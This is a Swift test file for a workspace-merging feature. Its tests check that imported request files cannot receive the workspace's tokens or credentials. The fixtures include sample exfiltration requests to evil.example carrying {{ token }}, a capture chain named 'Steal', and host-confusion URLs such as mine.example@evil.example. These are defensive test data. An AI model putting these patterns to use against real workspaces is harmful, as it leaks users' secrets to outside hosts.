import FoundationEssentials
import Testing

@testable import Workspaces

/// What is put into a workspace from elsewhere is never sent its secrets.
struct ForeignTextTests {
    private static let own = """
        variables:
          token: { env: MY_TOKEN }
          host: https://mine.example
          link: "{{ host }}/?t={{ token }}"
        defaults:
          baseURL: "{{ host }}"
          auth: { bearer: "{{ token }}" }
          headers: { X-Own: "{{ token }}", Accept: text/plain }
        environments:
          live: { variables: { pin: { ask: Pin, secret: true } } }
        targets:
          Login: { request: POST /login, auth: { basic: { user: ada, password: "{{ token }}" } } }

        """

    private func merge(
        _ text: String,
        into own: String = Self.own,
        before: WorkspaceMerge.Imported = [:]
    ) throws -> (merge: WorkspaceMerge, foreign: ForeignText, text: String) {
        let workspace = try Workspace.new(text: own, file: "shop.apus.yaml")
        let foreign = try ForeignText(text, for: workspace, before: before)
        let merge = try WorkspaceMerge(
            foreign.text,
            into: workspace,
            before: before,
            names: foreign.remembered
        )
        return (merge, foreign, merge.workspace.sources[0].text)
    }

    @Test("a variable that is secret here gets another name wherever the file has it")
    func names() throws {
        let file = """
            variables:
              token: { ask: Token }
              link: other
            environments:
              live: { variables: { pin: 1 } }
            targets:
              A:
                request: GET https://evil.example/{{ token }}?p={{ pin | raw }}&h={{ host }}
                json: { a: ["{{ link }}", "\\\\{{ token }}"] }
                auth: none
                rows: [{ token: 1 }, { token: 2 }]
            chains:
              C: [{ step: a, target: A, set: { token: "{{ token }}" }, capture: { pin: $.pin } }]
            """
        let result = try merge(file)
        #expect(
            result.foreign.renamed.map { "\($0.old)>\($0.new)" } == [
                "link>link_2", "pin>pin_2", "token>token_2",
            ]
        )
        let text = result.text
        #expect(
            text.contains("GET https://evil.example/{{ token_2 }}?p={{ pin_2 | raw }}&h={{ host }}")
        )
        #expect(text.contains("{{ link_2 }}"))
        #expect(text.contains("rows: [{ token_2: 1 }, { token_2: 2 }]"))
        #expect(
            text.contains("set: { token_2: \"{{ token_2 }}\" }\n      capture: { pin_2: $.pin }")
        )
        #expect(text.contains("live: { variables: { pin: { ask: Pin, secret: true }, pin_2: 1 } }"))
        // The workspace's own stays as it was.
        #expect(text.hasPrefix("variables:\n  token: { env: MY_TOKEN }\n"))
        let target = try #require(result.merge.workspace.definition(TargetID("A")))
        let sent = try result.merge.workspace.resolve(target, in: "live")
        #expect(!sent.path.contains("MY_TOKEN"))
        // A second import gives the same names.
        let again = try merge(file, into: text, before: result.merge.remembered)
        #expect(again.merge.added.isEmpty && again.merge.updated.isEmpty)
        #expect(again.text == text)
    }

    @Test(
        "a target at another host inherits no credentials",
        arguments: [
            ("GET https://evil.example/", true), ("GET {{ nowhere }}/a", true),
            ("GET //evil.example/", true), ("GET https://mine.example/a", false),
            ("GET {{ host }}/a", false), ("GET /a", false),
            ("GET https://mine.example@evil.example/", true),
            ("GET https://mine.example.evil.example/", true),
        ]
    )
    func inherited(request: String, isProtected: Bool) throws {
        let file = """
            variables: { nowhere: { ask: Where } }
            targets:
              A: "\(request)"
              G: { B: { request: "\(request)", headers: { X: y } }, defaults: { headers: { Y: z } } }
            """
        let text = try merge(file).text
        #expect(text.ranges(of: "defaults: none").count == (isProtected ? 2 : 0))
        if isProtected {
            // What its own group gives it is not lost.
            #expect(text.contains("headers: { Y: z, X: y }"))
        }
    }

    @Test("an environment that leads elsewhere has none of the credentials of the defaults")
    func environments() throws {
        let text = try merge(
            """
            environments:
              other: { baseURL: "https://evil.example" }
              same: { baseURL: "https://mine.example" }
            targets: { A: GET /a }
            """
        ).text
        #expect(
            text.contains(
                "other: { baseURL: https://evil.example, headers: { X-Own: null }, auth: none }"
            )
        )
        #expect(text.contains("same: { baseURL: https://mine.example }"))
    }

    @Test("the defaults of the file are those of its own targets alone")
    func defaults() throws {
        let result = try merge(
            """
            variables: { k: { ask: Key } }
            defaults: { auth: { bearer: "{{ k }}" }, redirects: 0, baseURL: "http://localhost" }
            targets: { G: { A: GET /a }, B: { request: GET /b, redirects: 2 } }
            """
        )
        #expect(
            result.text.hasSuffix(
                """
                  G: { defaults: { auth: { bearer: "{{ k }}" }, redirects: 0 }, A: GET /a }
                  B: { request: GET /b, redirects: 2, auth: { bearer: "{{ k }}" } }

                """
            )
        )
        #expect(result.text.contains("baseURL: \"{{ host }}\""))
    }

    @Test("nothing of the file sends a target of the workspace, to pass on what it answers")
    func captured() throws {
        let result = try merge(
            """
            variables: { given: { from: Login, capture: $.t } }
            targets: { Login: POST https://evil.example/login, Take: "GET https://evil.example/{{ given }}" }
            chains: { Steal: [{ step: a, target: Login, capture: { t: $.t } }, Take] }
            batches: { All: [Login, Take] }
            """
        )
        #expect(result.merge.left.count == 4)
        #expect(!result.text.contains("Steal") && !result.text.contains("from: Login"))
        #expect(result.text.contains("given: { ask: given }"))
        #expect(result.text.contains("Login: { request: POST /login, auth: { basic:"))
    }

    @Test("the workspace's own requests stay where they were sent")
    func firstEnvironment() throws {
        let own = "defaults: { baseURL: \"https://mine.example\" }\ntargets: { A: GET /a }\n"
        let result = try merge(
            "environments: { e: { baseURL: \"https://evil.example\" } }\ntargets: { B: GET /b }\n",
            into: own
        )
        let workspace = result.merge.workspace
        #expect(workspace.environments.map(\.name) == ["default", "e"])
        let target = try #require(workspace.definition(TargetID("A")))
        #expect(try workspace.resolve(target, in: "default").baseURL.host() == "mine.example")
    }

    @Test("where an environment has no base URL, the file's own goes with its targets")
    func baseURL() throws {
        let result = try merge(
            "environments: { e: { baseURL: \"https://other.example\" } }\ntargets: { B: GET /b }\n",
            into:
                "environments: { live: { auth: { bearer: secret1234 } } }\ntargets: { A: GET https://a.example }\n"
        )
        #expect(
            result.text.contains(
                "B: { request: GET /b, baseURL: https://other.example, defaults: none }"
            )
        )
    }
}
